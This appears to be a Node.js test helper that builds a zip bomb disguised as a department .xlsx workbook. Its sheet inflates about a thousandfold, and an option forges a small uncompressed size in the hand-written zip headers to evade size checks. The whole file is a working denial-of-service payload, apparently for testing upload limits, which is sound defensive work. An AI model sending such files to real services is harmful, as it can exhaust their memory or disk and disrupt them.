'use strict';
/**
 * A zip bomb shaped like a department workbook: a real small .xlsx whose sheet1.xml is replaced
 * by whitespace that deflates about a thousandfold, written as a zip by hand (JSZip cannot hold
 * a 2 GB part). `lie` states a small uncompressed size in the headers, as a forged archive would.
 */
const zlib = require('zlib');
const JSZip = require('jszip');

const SHEET = 'xl/worksheets/sheet1.xml';

function deflateBomb(compressedBytes) {
  const deflate = zlib.createDeflateRaw({ level: 9 });
  const out = [];
  let size = 0;
  let crc = 0;
  let raw = 0;
  deflate.on('data', (c) => {
    out.push(c);
    size += c.length;
  });
  const chunk = Buffer.alloc(16 * 1024 * 1024, 0x20);
  const head = Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
  );
  return new Promise((resolve) => {
    const write = (buf) => {
      crc = zlib.crc32(buf, crc);
      raw += buf.length;
      deflate.write(buf);
    };
    write(head);
    const pump = () => {
      while (size < compressedBytes) {
        write(chunk);
        if (raw % (256 * 1024 * 1024) < chunk.length) return deflate.flush(() => setImmediate(pump));
      }
      write(Buffer.from('</sheetData></worksheet>'));
      deflate.end(() => resolve({ data: Buffer.concat(out), crc: crc >>> 0, raw }));
    };
    pump();
  });
}

function entry(name, data, crc, raw, method, offset) {
  const nameBuf = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(0x0800, 6);
  local.writeUInt16LE(method, 8);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(raw, 22);
  local.writeUInt16LE(nameBuf.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(0x0800, 8);
  central.writeUInt16LE(method, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(raw, 24);
  central.writeUInt16LE(nameBuf.length, 28);
  central.writeUInt32LE(offset, 42);
  return { local: Buffer.concat([local, nameBuf, data]), central: Buffer.concat([central, nameBuf]) };
}

/** Bytes of an .xlsx about `compressedBytes` long whose sheet inflates to ~1000 times that. */
async function zipBomb(template, compressedBytes, lie = false) {
  const zip = await JSZip.loadAsync(template);
  const parts = [];
  for (const name of Object.keys(zip.files)) {
    if (zip.files[name].dir || name === SHEET) continue;
    const raw = await zip.files[name].async('nodebuffer');
    parts.push({ name, data: zlib.deflateRawSync(raw), crc: zlib.crc32(raw) >>> 0, raw: raw.length });
  }
  const bomb = await deflateBomb(compressedBytes);
  parts.push({ name: SHEET, data: bomb.data, crc: bomb.crc, raw: lie ? 1000 : Math.min(bomb.raw, 0xffffffff) });
  const locals = [];
  const centrals = [];
  let offset = 0;
  for (const p of parts) {
    const e = entry(p.name, p.data, p.crc, p.raw, 8, offset);
    locals.push(e.local);
    centrals.push(e.central);
    offset += e.local.length;
  }
  const dir = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return { bytes: Buffer.concat([...locals, dir, end]), inflated: bomb.raw };
}

module.exports = { zipBomb };
